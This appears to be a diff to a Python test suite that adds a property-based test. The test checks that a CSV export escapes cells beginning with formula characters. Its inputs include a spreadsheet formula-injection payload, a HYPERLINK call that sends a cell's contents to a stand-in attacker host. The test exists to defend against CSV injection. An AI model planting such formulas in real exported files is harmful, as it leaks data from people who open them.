@@ -19,6 +19,7 @@ import struct
 import subprocess
 import sys
 import time
+from dataclasses import replace
 from pathlib import Path
 
 import numpy as np
@@ -577,6 +578,40 @@ def test_csv_reads_back_with_pandas_equal_to_the_rows(folio):
         want = [None if (isinstance(v, float) and math.isnan(v)) else v for v in want]
         assert norm_ == want, column
     assert frame.loc[frame.pilot == "mkt-email-nudge", "title"].item() == f"Nudge {SCRIPT} & co"
+
+
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")  # what a spreadsheet runs as a formula
+
+
+@settings(max_examples=100, deadline=None)
+@given(
+    # no CR: pilot text cannot hold one (labkit._validation.bad_text), and pandas quotes only what is in its
+    # "\n" line terminator
+    title=st.text(st.characters(exclude_categories=("Cs",), exclude_characters="\x00\r"), max_size=24),
+    hypothesis=st.sampled_from(
+        ['=HYPERLINK("https://evil.example/?"&A1,"Reply fast")', "+5% replies", "-10% churn", "@SUM(A1)", "\tx",
+         "Fast replies lower churn."]
+    ),
+)  # fmt: skip
+def test_no_text_cell_of_the_csv_runs_as_a_formula_and_numbers_stay_numbers(folio, title, hypothesis):
+    """CSV injection (OWASP): leadership opens `compare --format csv` in a spreadsheet, which runs a cell that
+    starts with = + - @, a tab or a carriage return as a formula (a pilot's title can send the sheet away).
+    Any title, and each such hypothesis, comes back as text with a leading apostrophe, any other text as
+    written; a negative effect stays a number."""
+    import csv
+
+    row = next(r for r in folio.pilots if r.pilot == "svc-fast-reply")
+    tampered = replace(
+        folio,
+        pilots=tuple(replace(r, title=title, hypothesis=hypothesis) if r is row else r for r in folio.pilots),
+    )
+    (cells,) = [c for c in csv.DictReader(io.StringIO(to_csv(tampered))) if c["pilot"] == row.pilot]
+    for key, sent in (("title", title), ("hypothesis", hypothesis)):
+        assert cells[key] == (
+            "'" + sent if sent.startswith(FORMULA_START) and sent not in ("+", "-") else sent
+        ), key
+        assert not cells[key].startswith(FORMULA_START) or cells[key] in ("+", "-")
+    assert float(cells["effect"]) == row.effect < 0
 
 
 def test_html_is_one_self_contained_escaped_file(folio, tmp_path):
